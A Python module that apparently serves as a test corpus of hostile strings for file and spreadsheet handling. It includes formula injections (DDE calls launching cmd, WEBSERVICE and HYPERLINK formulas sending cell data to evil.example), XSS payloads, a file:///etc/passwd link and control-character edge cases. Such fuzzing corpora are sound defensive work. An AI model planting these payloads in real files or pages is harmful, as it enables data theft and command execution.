"""Two hundred strings that programs reading files have been made to run, follow or turn."""

from __future__ import annotations

from typing import Final

_FORMULAS: Final = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"open")',
    'WEBSERVICE("http://evil.example/"&A1)',
    'IMPORTXML("http://evil.example","//a")',
    'DDE("cmd";"/C calc";"x")',
    "SUM(1:1048576)",
    "1-1",
)
_LINKS: Final = (
    "http://evil.example/",
    "https://evil.example/a?b=c&d",
    "www.evil.example",
    "ftp://evil.example",
    "mailto:x@evil.example",
    "x@evil.example",
    "internal:Sheet1!A1",
    "external:c:\\x.xlsx",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "[a](javascript:alert(1))",
    "![a](http://evil.example/x.png)",
    "<http://evil.example>",
    "[a]: http://evil.example",
    "\\\\evil\\share",
)
_MARKUP: Final = (
    "<script>alert(1)</script>",
    "</td></tr></table><h1>x",
    "<img src=x onerror=alert(1)>",
    "<!-- x",
    "]]>",
    "<![CDATA[x",
    "&lt;b&gt;",
    "&#x3c;script>",
    "&amp;",
    '" onmouseover="x',
    "' onmouseover='x",
    "*bold*",
    "_emphasis_",
    "**strong**",
    "`code`",
    "~~gone~~",
    "a|b",
    "---",
    "| --- |",
    "# heading",
    "> quote",
    "a\\|b",
    "\\",
    "<svg/onload=alert(1)>",
    "_x0041_",
    "_x000D_",
    "{{7*7}}",
    "${7*7}",
    "%s%n",
    "&P&D",
    '{"a":1}',
    "null",
    "NaN",
    "1e999",
    "TRUE",
    "0123",
    "12345678901234567890",
    "2026-11-29",
    "'quoted",
    '"quoted"',
    'a,b"c',
    "a;b",
    "a\tb",
    " leading",
    "trailing ",
)
_CONTROL: Final = tuple(f"a{chr(code)}b" for code in (*range(1, 9), *range(11, 13), *range(14, 32)))
_OTHER_CONTROL: Final = tuple(f"a{chr(code)}b" for code in (0x7F, 0x80, 0x85, 0x9B, 0x9F))
_ENDS: Final = ("a\nb", "a\r\nb", "\n=1", "a\u2028b", "a\u2029b", "a\x1b[31mb", "a\x1b]0;x\x07b")
_DIRECTION: Final = tuple(
    text
    for code in (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))
    for text in (f"a{chr(code)}b", f"{chr(code)}=1+1")
)
_WORDS: Final = (
    "مشهد",
    "١٢٣",
    "城市",
    "e\u0301",
    "😀",
    "\ufeffx",
    "a\u200db",
    "\u00a0",
    "ﷺ",
    "\ufffe",
)

HOSTILE: Final = (
    *(
        f"{sign}{text}"
        for sign in ("=", "+", "-", "@", "＝", "＠", "\t=", "\r=", "\n=")
        for text in _FORMULAS
    ),
    *_LINKS,
    *_MARKUP,
    *_CONTROL,
    *_OTHER_CONTROL,
    *_ENDS,
    *_DIRECTION,
    *_WORDS,
)
